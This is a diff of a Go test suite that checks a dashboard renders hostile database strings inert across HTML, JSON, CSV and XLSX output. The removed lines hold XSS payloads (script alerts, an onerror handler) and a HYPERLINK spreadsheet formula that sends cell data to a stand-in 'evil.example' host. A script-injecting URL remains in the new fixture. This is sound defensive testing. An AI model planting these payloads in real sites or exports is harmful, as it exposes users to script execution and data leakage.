@@ -14,8 +14,13 @@ import (
 	"sort"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/dualcarbon/dualcarbon/dashboard/text"
+	"github.com/dualcarbon/dualcarbon/db"
+	"github.com/dualcarbon/dualcarbon/db/dbtest"
+	"github.com/dualcarbon/dualcarbon/db/dbtest/hostile"
+	"github.com/dualcarbon/dualcarbon/db/record"
 	"github.com/xuri/excelize/v2"
 )
 
@@ -236,32 +241,33 @@ func TestHostileRequests(t *testing.T) {
 	}
 }
 
-// storedHostile is a string a seed file could carry into any name, unit, note or source: it closes a
-// script, adds an element with a handler, carries go-echarts' function markers, starts with a spreadsheet
-// formula, and holds the characters CSV and JSON must quote.
-const storedHostile = `=HYPERLINK("https://evil.example/?"&A1,"x")</script><script>alert('stored')</script><img src=x onerror=alert(2)>__f__function(){alert(3)}__f__ "q",c;` + "\n" + `'end`
-
-// storedFixture puts storedHostile (as $1) in every text column of an indicator and what hangs on it.
-const storedFixture = `
-INSERT INTO sources (title, publisher, url, published) VALUES ($1, $1, 'https://example.org/"><script>alert(4)</script>', '2024');
-INSERT INTO indicators (code, name_en, name_zh, unit, unit_zh, definition_en, definition_zh, category, direction,
-  break_year, break_note_en, break_note_zh, sort_order)
-VALUES ('xss', $1, $1, $1, $1, $1, $1, 'ecology', 'up', 2021, $1, $1, 9);
-INSERT INTO observations (indicator, year, value, source_id, note, quote, flag)
-SELECT 'xss', y, v, (SELECT id FROM sources WHERE title = $1), $1, $1, 'estimate' FROM (VALUES (2019, 1), (2020, 1.5), (2021, 2), (2022, 3)) AS o(y, v);
-INSERT INTO targets (indicator, year, value, kind, plan, document, issuer, note, quote, source_id)
-VALUES ('xss', 2025, 5, 'level', 'other', $1, $1, $1, $1, (SELECT id FROM sources WHERE title = $1));
-INSERT INTO events (date, title_en, title_zh, issuer, indicator, source_id) VALUES ('2021-01-01', $1, $1, $1, 'xss', (SELECT id FROM sources WHERE title = $1));
-INSERT INTO seed_runs (file_name, sha256, inserted, updated, unchanged, started_at)
-VALUES ('xss.csv', repeat('e', 64), 4, 0, 0, now());
-`
+// addStored puts h in every text column of an indicator and what hangs on it.
+func addStored(t testing.TB, d *db.DB, h string) {
+	t.Helper()
+	in := record.Indicator{Code: "xss", NameEN: h, NameZH: h, Unit: h, UnitZH: h, DefinitionEN: h, DefinitionZH: h,
+		Category: "ecology", Direction: "up", Precision: 1, Measure: "level", BreakYear: 2021, BreakNoteEN: h,
+		BreakNoteZH: h, SortOrder: 9}
+	dbtest.AddIndicators(t, d, in)
+	src := dbtest.AddSource(t, d, record.Source{Title: h, Publisher: h, URL: `https://example.org/"><script>alert(4)</script>`, Published: "2024"})
+	obs := dbtest.Series(in.Code, src, 2019, "1", "1.5", "2", "3")
+	for i := range obs {
+		obs[i].Note, obs[i].Quote, obs[i].Flag = h, h, "estimate"
+	}
+	dbtest.AddObservations(t, d, obs...)
+	tg := dbtest.Target(in.Code, 2025, "5", src)
+	tg.Document, tg.Issuer, tg.Note, tg.Quote = h, h, h, h
+	dbtest.AddTargets(t, d, tg)
+	dbtest.AddEvents(t, d, record.Event{Date: time.Date(2021, 1, 1, 0, 0, 0, 0, time.UTC), TitleEN: h, TitleZH: h, Issuer: h,
+		Indicator: in.Code, Source: &src})
+	dbtest.AddSeedRun(t, d, "xss.csv", 4)
+}
 
 // Strings stored in the database are data everywhere: text in HTML (no markup of theirs, no script of
 // theirs, attribute values quoted), data in the chart JSON and every JSON response, neutralised cells in
 // every CSV, plain strings (no formula) in XLSX. Tooltips are drawn by the browser: TestBrowser checks them.
 func TestStoredHostileStringsAreInert(t *testing.T) {
 	d := seeded(t)
-	exec(t, d, storedFixture, storedHostile)
+	addStored(t, d, hostile.Combined)
 	s := testServer(t, d)
 	h := s.Handler()
 	targets := append(routeTargets(t, s, "xss"), "/?lang=zh", "/indicators/xss?lang=zh&from=2020",
@@ -298,7 +304,7 @@ func TestStoredHostileStringsAreInert(t *testing.T) {
 					t.Errorf("%s: a script tag that is not ours: %s", target, m)
 				}
 			}
-			if strings.Contains(html.UnescapeString(r.body), storedHostile) {
+			if strings.Contains(html.UnescapeString(r.body), hostile.Combined) {
 				shown[target] = true
 			}
 			for _, m := range chartData.FindAllStringSubmatch(r.body, -1) {
@@ -306,7 +312,7 @@ func TestStoredHostileStringsAreInert(t *testing.T) {
 				if err := json.Unmarshal([]byte(m[2]), &v); err != nil {
 					t.Errorf("%s: JSON block %s does not parse: %v", target, m[1], err)
 				}
-				if containsString(v, storedHostile) {
+				if containsString(v, hostile.Combined) {
 					shown[target] = true
 				}
 			}
@@ -315,7 +321,7 @@ func TestStoredHostileStringsAreInert(t *testing.T) {
 			if err := json.Unmarshal([]byte(r.body), &v); err != nil {
 				t.Errorf("%s: JSON does not parse: %v", target, err)
 			}
-			if containsString(v, storedHostile) {
+			if containsString(v, hostile.Combined) {
 				shown[target] = true
 			}
 		case strings.HasPrefix(ct, "text/csv"):
@@ -377,7 +383,7 @@ func checkCSV(t *testing.T, name string, b []byte) bool {
 			if strings.ContainsAny(cell[:1], "=+-@\t\r") {
 				t.Errorf("%s: a cell starts a formula: %.60q", name, cell)
 			}
-			if strings.TrimPrefix(cell, "'") == storedHostile {
+			if strings.TrimPrefix(cell, "'") == hostile.Combined {
 				found = true
 			}
 		}
@@ -411,7 +417,7 @@ func checkXLSX(t *testing.T, name string, b []byte) bool {
 				if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
 					t.Errorf("%s: %s!%s is a formula: %q", name, sheet, ref, formula)
 				}
-				if strings.TrimPrefix(cell, "'") == storedHostile {
+				if strings.TrimPrefix(cell, "'") == hostile.Combined {
 					found = true
 				}
 			}
